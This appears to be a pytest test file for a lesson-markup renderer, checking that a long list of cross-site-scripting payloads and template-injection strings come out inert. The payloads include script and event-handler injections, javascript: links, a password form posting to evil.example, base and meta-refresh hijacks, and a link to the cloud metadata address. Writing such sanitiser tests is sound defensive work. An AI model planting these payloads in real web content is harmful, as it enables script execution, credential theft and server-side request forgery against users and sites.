"""Nothing an author types comes alive on a page."""

import threading

import pytest
from hypothesis import given
from hypothesis import strategies as st

from curriculum.prose import markup
from curriculum.prose.inline import render
from curriculum.prose.lesson import compile_lesson
from tests.curriculum.prose.reading_html import dangers, elements, words

PAYLOADS = [
    # Scripts and handlers
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href='https://a.example' onclick='alert(1)'>x</a>",
    '<p onmouseover="alert(1)">x</p>',
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    # Foreign content
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<math><a xlink:href='javascript:alert(1)'>x</a></math>",
    # Frames, forms, objects, document parts
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<form action='https://evil.example'><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>*{display:none}</style>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    # Addresses of links
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61vascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.example/)",
    "[x](http://evil.example/)",
    "[x](/learn/sign-out/)",
    "[x](<javascript:alert(1)>)",
    '[x](https://a.example "title" onmouseover="alert(1)")',
    '[x](https://a.example"onmouseover="alert(1))',
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "![x][ref]\n\n[ref]: http://169.254.169.254/",
    # Attribute lists, ids, names, classes, styles
    "text {: onclick=alert(1) }",
    "## heading {: #csrfmiddlewaretoken onclick=alert(1) }",
    "<p id=csrfmiddlewaretoken name=csrfmiddlewaretoken class=banner style='position:fixed'>x</p>",
    "<div markdown=1 style='position:fixed;inset:0'>x</div>",
    "*[x]: javascript:alert(1)",
    # The parser's own place holders
    "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03",
    "\x02amp\x03lt;script\x02amp\x03gt;",
    # Markup within our own marks
    "[[term: <img src=x onerror=alert(1)>]]",
    "[[term: agrement|<script>alert(1)</script>]]",
    '[^"><script>alert(1)</script>]',
    "> [!NOTE] <script>alert(1)</script>\n> text",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "term\n: <img src=x onerror=alert(1)>",
    "`</code><script>alert(1)</script>`",
]


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("inline", [False, True])
def test_no_payload_comes_alive(payload, inline):
    assert dangers(render(payload, inline)) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_comes_alive_inside_other_markup(payload):
    for around in ("- {}", "> {}", "**{}**", "text {} text", "[{}](https://a.example)"):
        assert dangers(render(around.format(payload))) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_sanitiser_alone_leaves_no_payload_alive(payload):
    assert dangers(markup.clean(payload)) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_lesson_refuses_the_payload_or_shows_it_as_text(payload):
    body, problems = compile_lesson(f"{payload}\n\nText.", {}, {})
    if body is None:
        assert problems
    else:
        assert [dangers(block.get("html", "")) for block in body.blocks] == [[]] * len(body.blocks)
        assert "<" not in "".join(block.get("title", "") for block in body.blocks)


@given(st.text(alphabet="<>[]()`*_#|&\"'=:;/!-\\\n ajsx1{}^~\x02\x03", max_size=80))
def test_no_typed_text_comes_alive(text):
    assert dangers(render(text)) == []
    assert dangers(render(text, inline=True)) == []


@given(st.text(max_size=200))
def test_rendering_never_raises(text):
    assert isinstance(render(text), str)


def test_raw_html_is_shown_as_it_was_typed():
    assert words(render("Use <b>bold</b>.")) == "Use <b>bold</b>."


@pytest.mark.parametrize(
    "text", ["{{ settings.SECRET_KEY }}", "{% load static %}", "${7*7}", "#{7*7}x"]
)
def test_template_syntax_is_plain_text(text):
    assert text in words(render(f"Text {text}"))


def test_a_link_out_is_marked_and_tells_the_other_site_nothing():
    [(tag, attributes)] = elements(render("[x](https://a.example)", inline=True))
    assert tag == "a"
    assert attributes["class"] == "external"
    assert attributes["rel"] == "noopener noreferrer"


def test_links_within_the_page_and_by_mail_work():
    html = render("[down](#p14) [mail](mailto:a@b.example)", inline=True)
    assert [each["href"] for _, each in elements(html)] == ["#p14", "mailto:a@b.example"]


def test_a_code_span_keeps_what_it_holds():
    assert render("`<b> [[term: x]] *a*`", inline=True) == (
        "<code>&lt;b&gt; [[term: x]] *a*</code>"
    )


def test_a_table_keeps_its_alignment_and_its_head():
    html = render("| a | b |\n|:--|--:|\n| 1 | 2 |")
    found = {(tag, each.get("class"), each.get("scope")) for tag, each in elements(html)}
    assert ("th", "align-start", "col") in found
    assert ("td", "align-end", None) in found


def test_two_quotations_stay_two():
    assert render("> a\n\n> b").count("<blockquote>") == 2


def test_a_line_of_words_is_no_list_and_no_heading():
    assert render("1. March", inline=True) == "1. March"
    assert render("# 3", inline=True) == "# 3"


def test_a_term_shows_as_its_words_in_a_short_text():
    assert render("Ask for [[term: agrément|the agrément]].", inline=True) == (
        "Ask for the agrément."
    )
    assert render("Ask for [[term: agrément]].", inline=True) == "Ask for agrément."


def test_entities_are_read():
    assert words(render("a &amp; b &lt; c", inline=True)) == "a & b < c"


def test_an_entity_cannot_bring_back_an_unseen_character():
    assert "\u202e" not in render("a &#8238; b &#x202E; c", inline=True)


def test_plain_words_part_at_the_ends_of_blocks():
    assert markup.plain("<p>a &amp; b</p><p>c<em>d</em></p>") == "a & b cd"


def test_threads_do_not_mix_their_texts():
    made: dict[int, set[str]] = {}

    def run(number: int) -> None:
        made[number] = {render(f"*{number}* [x](https://{number}.example)") for _ in range(50)}

    threads = [threading.Thread(target=run, args=(number,)) for number in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert all(len(texts) == 1 and f"<em>{at}</em>" in texts.pop() for at, texts in made.items())
    assert len(made) == 4


def test_a_narrow_page_can_show_a_table_as_cards():
    """Each cell has the words of its column; one without words has no header cell."""
    html = render('| | *Person* "A" | Home |\n|---|---|---|\n| Agent | <b>free</b> | closed |')
    assert html.startswith('<table class="table stack">')
    assert html.count("<th ") == 2
    assert '<td data-label="Person &quot;A&quot;">' in html
    assert '<td data-label="Home">closed</td>' in html
    assert "<td>Agent</td>" in html
